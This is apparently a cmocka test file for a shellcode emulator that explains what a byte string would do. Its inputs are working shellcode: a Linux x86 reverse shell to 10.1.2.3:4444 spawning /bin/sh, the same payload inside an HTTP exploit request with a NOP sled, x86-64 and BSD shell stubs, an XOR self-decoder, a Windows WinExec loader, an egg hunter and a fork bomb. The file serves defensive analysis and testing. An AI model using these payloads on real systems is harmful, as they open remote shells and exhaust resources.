/* Small shellcodes of our own, for every system: what they would do is known, so it must be said.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#include <stdlib.h>

#include "emulate/explain.h"

static struct explainer explainer;

static struct shellcode_run run_of(enum shellcode_platform platform, struct bytes code)
{
    struct shellcode_request request = {1, platform, code};
    struct shellcode_run run = {0};
    assert_int_equal(explain(&explainer, &request, &run), 0);
    return run;
}

static const struct shellcode_call *call_of(const struct shellcode_run *run, const char *name)
{
    for (uint32_t i = 0; i < run->count; i++)
        if (bytes_equal(run->calls[i].name, bytes_of(name)))
            return &run->calls[i];
    return NULL;
}

static void text_is(const struct shellcode_run *run, const char *call, const char *argument,
                    const char *text)
{
    const struct shellcode_call *made = call_of(run, call);
    assert_non_null(made);
    const struct shellcode_argument *found = shellcode_argument_find(made, argument);
    assert_non_null(found);
    assert_true(bytes_equal(found->text, bytes_of(text)));
}

static void number_is(const struct shellcode_run *run, const char *call, const char *argument,
                      int64_t number)
{
    const struct shellcode_call *made = call_of(run, call);
    assert_non_null(made);
    const struct shellcode_argument *found = shellcode_argument_find(made, argument);
    assert_non_null(found);
    assert_int_equal(found->number, number);
}

/* socket, connect to 10.1.2.3:4444 by socketcall, then execve("/bin/sh") */
#define LINUX_X86_CONNECT                                                                          \
    "\x31\xdb\x53\x43\x53\x6a\x02\x89\xe1\x6a\x66\x58\xcd\x80\x96\x68\x0a\x01\x02\x03\x66\x68"     \
    "\x11\x5c\x66\x6a\x02\x89\xe1\x6a\x10\x51\x56\x89\xe1\x6a\x03\x5b\x6a\x66\x58\xcd\x80"         \
    "\x31\xc0\x50\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b"     \
    "\xcd\x80"

static void linux_x86_connects(void **state)
{
    (void)state;
    struct shellcode_run run = run_of(SHELLCODE_ANY, BYTES(LINUX_X86_CONNECT));
    assert_int_equal(run.platform, SHELLCODE_LINUX_X86);
    assert_int_equal(run.ending, SHELLCODE_EXECUTED);
    text_is(&run, "connect", "address", "10.1.2.3");
    number_is(&run, "connect", "port", 4444);
    text_is(&run, "execve", "path", "//bin/sh");
}

static void text_in_front_is_passed_over(void **state)
{
    (void)state;
    struct shellcode_run run =
        run_of(SHELLCODE_ANY, BYTES("\xff\xff\xff\xff\x0f\x0b\x0f\x0b" LINUX_X86_CONNECT));
    number_is(&run, "connect", "port", 4444);
    assert_true(run.entry > 0);
    /* a request with a filling, a sled and then the code, and more text behind */
    run = run_of(SHELLCODE_ANY,
                 BYTES("GET /cgi-bin/vulnerable.cgi?parameter=Hd1U`e4Mh5H0dUeMhHd1U`e4Mh5H0dUeMhH"
                       "Hd1U`e4Mh5H0dUeMhHd1U`e4Mh5H0dUeMhH\xff\xff\xff\xff\xfe\x90\x90\x90\x90"
                       "\x90\x90" LINUX_X86_CONNECT " HTTP/1.0\r\n\r\n"));
    number_is(&run, "connect", "port", 4444);
}

/* A listing whose comments stand among its bytes: the address, the port and the words again. */
static void comments_of_a_listing_are_left_out(void **state)
{
    (void)state;
    struct shellcode_run run = run_of(
        SHELLCODE_ANY,
        BYTES("\x31\xdb\x53\x43\x53\x6a\x02\x89\xe1\x6a\x66\x58\xcd\x80\x96\x68\x0a\x01\x02\x03"
              "10.1.2.3"
              "\x66\x68\x11\x5c"
              "4444"
              "\x66\x6a\x02\x89\xe1\x6a\x10\x51\x56\x89\xe1\x6a\x03\x5b\x6a\x66\x58\xcd\x80\x31\xc0"
              "\x50"
              "\x68\x6e\x2f\x73\x68"
              "n/sh"
              "\x68\x2f\x2f\x62\x69"
              "//bi"
              "\x89\xe3\x50\x53\x89\xe1\x99\xb0\x0b\xcd\x80"));
    text_is(&run, "connect", "address", "10.1.2.3");
    number_is(&run, "connect", "port", 4444);
    text_is(&run, "execve", "path", "//bin/sh");
    assert_true(run.note.len > 0);
}

static void the_end_of_a_shellcode_is_understood(void **state)
{
    (void)state;
    /* the socket was opened before: inc ebx makes it a bind, whose address is here */
    struct shellcode_run run =
        run_of(SHELLCODE_LINUX_X86,
               BYTES("\x52\x66\x68\x11\x5c\x66\x6a\x02\x89\xe1\x6a\x10\x51\x50\x89\xe1"
                     "\x43\x6a\x66\x58\xcd\x80"));
    number_is(&run, "bind", "port", 4444);
    assert_true(run.assumed);
}

static void linux_x86_64_executes(void **state)
{
    (void)state;
    struct shellcode_run run =
        run_of(SHELLCODE_ANY,
               BYTES("\x31\xf6\x56\x48\xbb/bin//sh\x53\x54\x5f\x31\xd2\x6a\x3b\x58\x0f\x05"));
    assert_int_equal(run.platform, SHELLCODE_LINUX_X86_64);
    text_is(&run, "execve", "path", "/bin//sh");
}

static void decoders_rewrite_themselves(void **state)
{
    (void)state;
    /* fnstenv finds where it is, and 8 bytes behind (exit(7), xor 0x41) are decoded */
    struct shellcode_run run =
        run_of(SHELLCODE_LINUX_X86,
               BYTES("\xd9\xee\xd9\x74\x24\xf4\x5e\x31\xc9\xb1\x08\x80\x74\x0e\x11\x41\xe2\xf9"
                     "\x2b\x46\x1a\x2b\x40\x19\x8c\xc1"));
    assert_int_equal(run.ending, SHELLCODE_EXITED);
    number_is(&run, "exit", "status", 7);
}

static void bsd_takes_arguments_from_the_stack(void **state)
{
    (void)state;
    /* push 0; push 0; push path; push eax; mov al,59; int 0x80 */
    struct shellcode_run run = run_of(
        SHELLCODE_BSD_X86,
        BYTES("\x31\xc0\x50\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69\x89\xe3\x50\x50\x53\x50\xb0\x3b"
              "\xcd\x80"));
    text_is(&run, "execve", "path", "//bin/sh");
}

static void arm_in_both_states(void **state)
{
    (void)state;
    /* mov r0,#5; mov r7,#1; svc 0 -- then in Thumb */
    struct shellcode_run run =
        run_of(SHELLCODE_LINUX_ARM, BYTES("\x05\x00\xa0\xe3\x01\x70\xa0\xe3\x00\x00\x00\xef"));
    number_is(&run, "exit", "status", 5);
    run = run_of(SHELLCODE_LINUX_ARM, BYTES("\x06\x20\x01\x27\x00\xdf"));
    number_is(&run, "exit", "status", 6);
}

static void other_processors_exit(void **state)
{
    (void)state;
    static const struct {
        enum shellcode_platform platform;
        struct bytes code;
    } cases[] = {
        {SHELLCODE_LINUX_ARM64, {"\xa0\x00\x80\xd2\xa8\x0b\x80\xd2\x01\x00\x00\xd4", 12}},
        {SHELLCODE_LINUX_MIPS, {"\x24\x04\x00\x05\x24\x02\x0f\xa1\x01\x01\x01\x0c", 12}},
        {SHELLCODE_LINUX_MIPSEL, {"\x05\x00\x04\x24\xa1\x0f\x02\x24\x0c\x01\x01\x01", 12}},
        {SHELLCODE_LINUX_PPC, {"\x38\x60\x00\x05\x38\x00\x00\x01\x44\x00\x00\x02", 12}},
        {SHELLCODE_LINUX_RISCV64, {"\x13\x05\x50\x00\x93\x08\xd0\x05\x73\x00\x00\x00", 12}},
        {SHELLCODE_BSD_X86_64, {"\x6a\x05\x5f\x6a\x01\x58\x0f\x05", 8}},
        {SHELLCODE_SOLARIS_X86, {"\x6a\x05\x50\x6a\x01\x58\x9a\x00\x00\x00\x00\x07\x00", 13}},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct shellcode_run run = run_of(cases[i].platform, cases[i].code);
        assert_int_equal(run.ending, SHELLCODE_EXITED);
        number_is(&run, "exit", "status", 5);
    }
}

/* Walks the modules for kernel32's export table and takes WinExec from it by name. */
static void windows_finds_its_functions(void **state)
{
    (void)state;
    struct shellcode_run run = run_of(
        SHELLCODE_ANY,
        BYTES("\x31\xc9\x64\x8b\x41\x30\x8b\x40\x0c\x8b\x70\x14\xad\x96\xad\x8b\x58\x10" /* base */
              "\x8b\x53\x3c\x01\xda\x8b\x52\x78\x01\xda\x8b\x72\x20\x01\xde"             /* names */
              "\x41\xad\x01\xd8\x81\x38WinE\x75\xf4" /* the name */
              "\x8b\x72\x24\x01\xde\x66\x8b\x4c\x4e\xfe\x8b\x72\x1c\x01\xde\x8b\x3c\x8e\x01\xdf"
              "\x31\xc0\x50\x68"
              "calc\x89\xe1\x50\x51\xff\xd7"));
    assert_int_equal(run.platform, SHELLCODE_WINDOWS_X86);
    text_is(&run, "WinExec", "command", "calc");
}

static void fixed_addresses_are_told_by_their_arguments(void **state)
{
    (void)state;
    /* push 0; push "cmd"; call an address of some Windows */
    struct shellcode_run run =
        run_of(SHELLCODE_WINDOWS_X86, BYTES("\x31\xc0\x50\x68"
                                            "cmd\x20\x89\xe3\x50\x53\xbb\xad\x23\x86"
                                            "\x7c\xff\xd3"));
    text_is(&run, "WinExec", "command", "cmd ");
    assert_true(run.note.len > 0);
}

static void received_code_is_not_run(void **state)
{
    (void)state;
    /* read(3, esp, 0x7f); jmp esp */
    struct shellcode_run run = run_of(
        SHELLCODE_LINUX_X86, BYTES("\x6a\x03\x5b\x6a\x03\x58\x89\xe1\x6a\x7f\x5a\xcd\x80\xff\xe1"));
    assert_int_equal(run.ending, SHELLCODE_STAGED);
}

static void hunters_end(void **state)
{
    (void)state;
    /* or dx,0xfff; inc edx; lea ebx,[edx+4]; push 33; pop eax; int 0x80; cmp al,0xf2; jz; ... */
    struct shellcode_run run =
        run_of(SHELLCODE_LINUX_X86,
               BYTES("\x66\x81\xca\xff\x0f\x42\x8d\x5a\x04\x6a\x21\x58\xcd\x80\x3c\xf2\x74\xee\xb8"
                     "\x90\x50\x90\x50\x89\xd7\xaf\x75\xe9\xaf\x75\xe6\xff\xe7"));
    assert_int_equal(run.ending, SHELLCODE_HUNTED);
}

static void endless_things_end(void **state)
{
    (void)state;
    static const struct {
        struct bytes code;
        enum shellcode_ending ending;
    } cases[] = {
        {{"\xeb\xfe", 2}, SHELLCODE_NOTHING},                      /* jmp $ */
        {{"\x6a\x02\x58\xcd\x80\xeb\xf9", 7}, SHELLCODE_REPEATED}, /* fork, for ever */
        {{"\xe8\x00\x00\x00\x00\x5e\xfe\x06\xeb\xfc", 10},
         SHELLCODE_NOTHING},                              /* writes to itself */
        {{"\x31\xc9\x49\xf3\xaa", 5}, SHELLCODE_NOTHING}, /* rep stos, 4 GiB */
        {{"\x60\xeb\xfd", 3}, SHELLCODE_NOTHING},         /* the stack, without end */
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        struct shellcode_run run = run_of(SHELLCODE_LINUX_X86, cases[i].code);
        assert_int_equal(run.ending, cases[i].ending);
        assert_true(run.count <= SHELLCODE_CALLS_MOST);
    }
    /* and memory: mmap of 2 GiB, over and over, succeeds never */
    struct shellcode_run run =
        run_of(SHELLCODE_LINUX_X86_64,
               BYTES("\x6a\x09\x58\x31\xff\xbe\x00\x00\x00\x7f\x6a\x07\x5a\x0f\x05\xeb\xef"));
    assert_int_equal(run.ending, SHELLCODE_REPEATED);
}

/* Whatever the bytes: an answer, the same one again, and no more than was promised. */
static void noise_is_bounded_and_repeatable(void **state)
{
    (void)state;
    uint32_t seed = 1;
    for (int round = 0; round < 40; round++) {
        char code[96];
        for (size_t i = 0; i < sizeof(code); i++)
            code[i] = (char)((seed = seed * 1664525 + 1013904223) >> 24);
        struct shellcode_run run = run_of(SHELLCODE_ANY, (struct bytes){code, sizeof(code)});
        enum shellcode_ending ending = run.ending;
        enum shellcode_platform platform = run.platform;
        uint64_t blocks = run.blocks;
        run = run_of(SHELLCODE_ANY, (struct bytes){code, sizeof(code)});
        assert_int_equal(run.ending, ending);
        assert_int_equal(run.platform, platform);
        assert_int_equal(run.blocks, blocks);
    }
    struct shellcode_run run = run_of(SHELLCODE_ANY, (struct bytes){"", 0});
    assert_int_equal(run.ending, SHELLCODE_NOTHING);
}

static int finish(void **state)
{
    (void)state;
    explainer_finish(&explainer);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(linux_x86_connects),
        cmocka_unit_test(text_in_front_is_passed_over),
        cmocka_unit_test(comments_of_a_listing_are_left_out),
        cmocka_unit_test(the_end_of_a_shellcode_is_understood),
        cmocka_unit_test(linux_x86_64_executes),
        cmocka_unit_test(decoders_rewrite_themselves),
        cmocka_unit_test(bsd_takes_arguments_from_the_stack),
        cmocka_unit_test(arm_in_both_states),
        cmocka_unit_test(other_processors_exit),
        cmocka_unit_test(windows_finds_its_functions),
        cmocka_unit_test(fixed_addresses_are_told_by_their_arguments),
        cmocka_unit_test(received_code_is_not_run),
        cmocka_unit_test(hunters_end),
        cmocka_unit_test(endless_things_end),
        cmocka_unit_test(noise_is_bounded_and_repeatable),
    };
    return cmocka_run_group_tests(tests, NULL, finish);
}
